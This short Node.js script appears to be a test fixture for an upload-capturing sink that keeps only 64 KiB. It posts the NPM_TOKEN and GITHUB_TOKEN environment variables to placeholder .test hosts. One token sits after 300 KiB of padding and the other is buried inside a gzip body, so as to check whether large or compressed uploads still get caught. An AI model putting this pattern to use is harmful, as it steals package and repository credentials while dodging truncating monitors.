// Two uploads far past the 64 KiB the sink keeps: 300 KiB with the token at
// its end, and a gzip body (incompressible bytes, then the token) whose
// compressed form is 200 KiB, the token Huffman-coded among repeats.
const http = require('http'), zlib = require('zlib'), crypto = require('crypto');
function post(host, body, headers) {
	return new Promise(done => {
		const r = http.request({ host, port: 80, method: 'POST', path: '/u',
			headers: { 'content-type': 'application/octet-stream', 'content-length': body.length, ...headers } },
			res => { res.resume(); res.on('end', done); });
		r.on('error', done);
		r.end(body);
	});
}
(async () => {
	await post('big.collect.test', Buffer.concat([Buffer.alloc(300 * 1024, 'a'), Buffer.from('&t=' + process.env.NPM_TOKEN)]), {});
	await post('gz.collect.test', zlib.gzipSync(Buffer.concat([crypto.randomBytes(200 * 1024), Buffer.from('a'.repeat(50000) + 't=' + process.env.GITHUB_TOKEN + 'a'.repeat(50000))])),
		{ 'content-encoding': 'gzip' });
})();
